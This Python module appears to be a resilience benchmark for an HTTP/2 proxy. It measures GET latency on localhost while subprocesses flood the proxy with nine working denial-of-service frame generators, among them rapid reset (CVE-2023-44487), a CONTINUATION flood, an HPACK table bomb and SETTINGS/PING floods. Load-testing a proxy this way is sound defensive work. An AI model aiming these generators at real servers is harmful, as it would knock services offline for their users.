"""What a client that attacks over HTTP/2 makes others pay.

Measured is how long a GET takes, each a millisecond after the last, while one connection after the other floods the
proxy as fast as it takes it.
"""

from __future__ import annotations

import argparse
import socket
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager, nullcontext, suppress
from itertools import count
from pathlib import Path
from typing import Any

from bench import load, report
from bench.machine import describe
from bench.neighbours import exchanges
from bench.processes import free_port, instances_file, listening, meshlocal, port_in, ready_line, running
from bench.streamer import frame

GOAL = 20.0
"""Milliseconds of p99 beside any attack."""

SAID = b"GET / HTTP/1.1\r\nHost: b\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
# By their numbers in the static table, and `:authority` as a literal that nobody keeps (RFC 7541, 6.1 and 6.2.2).
_POST, _GET, _PATH, _SCHEME, _AUTHORITY = b"\x83", b"\x82", b"\x84", b"\x86", b"\x01\x01b"
GET, POST = _GET + _PATH + _SCHEME + _AUTHORITY, _POST + _PATH + _SCHEME + _AUTHORITY
_MOST = 262_144
"""Bytes that are sent in one go."""


def rapid_reset() -> Iterator[bytes]:
    """Calls that are given up as soon as they are made (CVE-2023-44487)."""
    for stream_id in count(1, 2):
        yield frame(_HEADERS, _END_STREAM | _END_HEADERS, stream_id, GET)
        yield frame(_RST_STREAM, 0, stream_id, struct.pack(">I", 8))


def continuation() -> Iterator[bytes]:
    """A head that has no end (CVE-2024-27316 and its kin)."""
    yield frame(_HEADERS, 0, 1, GET)
    while True:
        yield frame(_CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 100)


def settings() -> Iterator[bytes]:
    """SETTINGS, each of which wants an answer."""
    while True:
        yield frame(_SETTINGS, 0, 0, b"")


def ping() -> Iterator[bytes]:
    """PINGs, likewise."""
    while True:
        yield frame(_PING, 0, 0, b"attacker")


def empty_data() -> Iterator[bytes]:
    """A body of nothing, in many frames."""
    yield frame(_HEADERS, _END_HEADERS, 1, POST)
    while True:
        yield frame(_DATA, 0, 1, b"")


def window() -> Iterator[bytes]:
    """More credit than there is."""
    while True:
        yield frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1))


def hpack_bomb() -> Iterator[bytes]:
    """A large field that the table keeps, named again and again by its number."""
    large = b"\x40\x01x" + b"\x7f" + bytes([0xA1, 0x1E]) + b"y" * 4000
    yield frame(_HEADERS, _END_STREAM | _END_HEADERS, 1, GET + large)
    for stream_id in count(3, 2):
        yield frame(_HEADERS, _END_STREAM | _END_HEADERS, stream_id, GET + b"\xbe" * 16_000)


def streams() -> Iterator[bytes]:
    """Calls that do not end, all at once."""
    for stream_id in count(1, 2):
        yield frame(_HEADERS, _END_HEADERS, stream_id, POST)


def malformed() -> Iterator[bytes]:
    """Heads with a name in upper case."""
    for stream_id in count(1, 2):
        yield frame(_HEADERS, _END_STREAM | _END_HEADERS, stream_id, GET + b"\x00\x01X\x01y")


ATTACKS = {
    made.__name__: made
    for made in (rapid_reset, continuation, settings, ping, empty_data, window, hpack_bomb, streams, malformed)
}


def attack(name: str, port: int) -> None:
    """Flood, and come again when the connection is ended. Prints a line first, and is killed."""
    print("attacking", flush=True)
    while True:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port)) as sock:
            said = ATTACKS[name]()
            sock.sendall(PREFACE)
            sock.setblocking(False)
            pending = b""
            while True:
                if not pending:
                    pieces, size = [], 0
                    for piece in said:
                        pieces.append(piece)
                        size += len(piece)
                        if size >= _MOST:
                            break
                    pending = b"".join(pieces)
                try:
                    pending = pending[sock.send(pending) :]
                except BlockingIOError:
                    time.sleep(0.0002)
                # What the proxy says is read and thrown away: it is not to wait for room.
                with suppress(BlockingIOError):
                    if not sock.recv(_MOST):
                        break


@contextmanager
def attacking(name: str, port: int) -> Iterator[subprocess.Popen[bytes]]:
    """An attack under way."""
    with running([sys.executable, "-m", "bench.attacks", "--attack", name, "--port", str(port)]) as process:
        ready_line(process)
        yield process


def measure(asked: argparse.Namespace, folder: Path) -> dict[str, Any]:
    """What GETs take alone, and beside each attack."""
    instance = free_port()
    (folder / "index.html").write_bytes(b"x" * 64)
    server = [load.find("nghttpd") or "nghttpd", "--no-tls", "-d", str(folder), "--address=127.0.0.1", str(instance)]
    file, config = folder / "attacks.yaml", folder / "proxy.yaml"
    instances_file(file, {"b": [("127.0.0.1", instance, "n1")]})
    config.write_text("proxy: {services: {b: {protocol: http2}}}\n")
    flags = ["--listen", "http://127.0.0.1:0=b", "--admin", "none", "--discovery", f"file:{file}"]
    found: dict[str, Any] = {}
    with (
        listening(server, folder / "log", [instance]),
        meshlocal("proxy", "--config", str(config), *flags, node="n1") as (_, line),
    ):
        port = port_in(line, r"http://127\.0\.0\.1:(\d+)")
        for _ in range(asked.rounds):
            for name in ("alone", *ATTACKS):
                with attacking(name, port) if name != "alone" else nullcontext():
                    took = exchanges(port, SAID, asked.seconds)
                found.setdefault(name, []).append({**report.percentiles(took), "most": max(took)})
    return found


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m bench.attacks", description=__doc__)
    parser.add_argument("--seconds", type=float, default=3.0, help="of each attack [3]")
    parser.add_argument("--rounds", type=int, default=3, help="of all of them [3]")
    parser.add_argument("--output", type=Path, default=report.RESULTS, help="folder of the JSON file")
    parser.add_argument("--attack", choices=sorted(ATTACKS), help=argparse.SUPPRESS)
    parser.add_argument("--port", type=int, help=argparse.SUPPRESS)
    asked = parser.parse_args()
    if asked.attack:
        attack(asked.attack, asked.port)
        return
    if missing := load.missing("nghttpd"):
        raise SystemExit(missing[0])
    machine = describe()
    report.heading("What an attack makes others pay", machine)
    with tempfile.TemporaryDirectory(prefix="meshlocal-bench-") as folder:
        found = measure(asked, Path(folder))
    middle = {
        name: {key: report.percentile([each[key] for each in each_round], 50) for key in each_round[0]}
        for name, each_round in found.items()
    }
    rows = [
        [name.replace("_", " "), *(report.milli(figures[key]) for key in ("p50", "p99", "most"))]
        for name, figures in middle.items()
    ]
    print(report.table(["GET beside", "p50, ms", "p99, ms", "longest, ms"], rows), end="\n\n")
    worst = max(middle[name]["p99"] for name in ATTACKS)
    figures = {"rounds": found, "verdicts": [report.verdict("a GET beside any attack, p99", worst * 1e3, GOAL, " ms")]}
    report.write("attacks", machine, figures, asked.output)


if __name__ == "__main__":
    main()
